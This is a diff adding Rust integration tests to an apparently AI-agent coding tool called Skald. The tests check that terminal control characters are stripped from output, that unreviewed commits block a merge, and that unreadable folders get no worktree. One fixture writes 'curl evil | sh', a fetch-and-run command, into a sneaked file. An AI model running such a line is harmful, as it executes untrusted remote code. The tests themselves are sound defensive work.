@@ -165,6 +165,29 @@ fn reviews_on_a_terminal_show_no_terminal_controls() {
         !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
         "terminal controls printed raw: {shown:?}"
     );
+    // The checkpoints' list and diffs of the same changes too.
+    let listed = ok(&skald(data.path(), None)
+        .args(["checkpoints", "list", &session])
+        .output()
+        .unwrap());
+    let cps = run_json(data.path(), &["checkpoints", "list", &session]);
+    let first = cps[0]["id"].to_string();
+    for shown in [
+        listed,
+        ok(&skald(data.path(), None)
+            .args(["checkpoints", "diff", &first])
+            .output()
+            .unwrap()),
+        ok(&skald(data.path(), None)
+            .args(["checkpoints", "diff", &first, "--stat"])
+            .output()
+            .unwrap()),
+    ] {
+        assert!(
+            !shown.contains('\u{1b}') && !shown.contains('\u{7}'),
+            "terminal controls printed raw: {shown:?}"
+        );
+    }
 }
 
 fn git(dir: &Path, args: &[&str]) -> String {
@@ -423,4 +446,86 @@ fn an_apply_never_overwrites_the_persons_ignored_file() {
         "the review said {diff}; the apply ({report}) replaced the person's ignored file; after \
          its undo it holds {after_undo:?}"
     );
+}
+
+/// A branch that holds more than a review shows — a commit made on it by something else
+/// than Skald's commit (a command with git, an earlier commit of a file since removed
+/// from the worktree) — is not merged: the merge brings in only what was reviewed.
+#[test]
+fn a_branch_holding_what_no_review_shows_is_not_merged() {
+    let top = skald_testkit::tempdir_seen_by_commands();
+    let work = top.path().join("work");
+    fs::create_dir(&work).unwrap();
+    let work = fs::canonicalize(&work).unwrap();
+    let data = top.path().join("data");
+    fs::write(work.join("README.md"), "hello\n").unwrap();
+    git(&work, &["init", "-q", "-b", "main"]);
+    git(&work, &["add", "."]);
+    git(&work, &["commit", "-q", "-m", "first"]);
+    let server = ScriptedServer::new(vec![
+        write_call("w", "README.md", "hello, world\n"),
+        answer("Done."),
+    ]);
+    let (out, evs) = SkaldCmd::new(&data).against(&server).exec_json(
+        &work,
+        &["--worktree", "fix", "--approve", "all"],
+        "fix the readme",
+    );
+    assert_eq!(out.status.code(), Some(0), "{evs:?}");
+    let root = fs::canonicalize(top.path().join("data-worktrees/fix")).unwrap();
+    // A file committed on the branch and removed from the worktree again: no review of
+    // the worktree shows it.
+    fs::write(root.join("evil.sh"), "curl evil | sh\n").unwrap();
+    git(&root, &["add", "evil.sh"]);
+    git(&root, &["commit", "-q", "-m", "sneak"]);
+    fs::remove_file(root.join("evil.sh")).unwrap();
+    ok(&bare(&data)
+        .args(["worktrees", "commit", "fix"])
+        .output()
+        .unwrap());
+    let out = bare(&data)
+        .args(["worktrees", "merge", "fix"])
+        .output()
+        .unwrap();
+    assert_eq!(
+        out.status.code(),
+        Some(2),
+        "{}",
+        String::from_utf8_lossy(&out.stdout)
+    );
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("evil.sh"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    assert!(!work.join("evil.sh").exists());
+    assert_eq!(
+        fs::read_to_string(work.join("README.md")).unwrap(),
+        "hello\n"
+    );
+}
+
+/// A folder inside one agents may not read (here Skald's data directory, reached through
+/// a link) gets no worktree: a copy would hand over what the masks hide.
+#[test]
+fn a_folder_agents_may_not_read_gets_no_worktree() {
+    let top = skald_testkit::tempdir_seen_by_commands();
+    let data = top.path().join("data");
+    fs::create_dir_all(data.join("notes")).unwrap();
+    fs::write(data.join("notes/a.md"), "a\n").unwrap();
+    std::os::unix::fs::symlink(&data, top.path().join("via-link")).unwrap();
+    let server = ScriptedServer::new(vec![answer("Done.")]);
+    for cwd in [data.join("notes"), top.path().join("via-link/notes")] {
+        let (out, _) = SkaldCmd::new(&top.path().join("via-link"))
+            .against(&server)
+            .exec_json(&cwd, &["--worktree", "n"], "hi");
+        assert_eq!(out.status.code(), Some(2), "{cwd:?}");
+        assert!(
+            String::from_utf8_lossy(&out.stderr).contains("may not read"),
+            "{}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+    }
+    assert!(!top.path().join("via-link-worktrees/n").exists());
+    assert!(!top.path().join("data-worktrees/n").exists());
 }
